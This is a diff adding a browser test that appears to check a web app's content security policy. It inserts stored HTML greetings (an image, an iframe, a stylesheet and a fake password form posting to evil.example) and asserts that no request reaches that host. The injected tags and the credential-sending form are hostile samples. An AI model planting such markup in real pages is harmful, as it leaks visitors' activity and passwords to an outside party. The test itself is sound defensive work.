@@ -1,0 +1,13 @@
+// The policy has more rules than the one for scripts: what a greeting loads or where its form leads.
+const kofi = await victim('kofi@kestrel.example');
+await kofi.host({ 'https://evil.example/frame.html': '<p>Hello</p>', 'https://evil.example/s.css': 'p { color: red }' });
+const loads = ['<img src="https://evil.example/seen.png">', '<iframe src="https://evil.example/frame.html"></iframe>', '<link rel="stylesheet" href="https://evil.example/s.css">'];
+for (const html of shuffle(loads)) {
+  sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", html);
+  await kofi.visit(pick(['/', '/studio']));
+}
+sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", '<form id="more" method="post" action="https://evil.example/take"><input name="password"><button>More</button></form>');
+const page = await kofi.visit('/studio');
+if (page.all('#more').length > 0) await kofi.submit('#more', { password: 'x' });
+const left = events('outgoing').filter(({ by, host }) => by === 'page' && host === 'evil.example');
+expect(left.map(({ url }) => url), 'a greeting loaded something from another host, or sent something there').toBeEmpty();
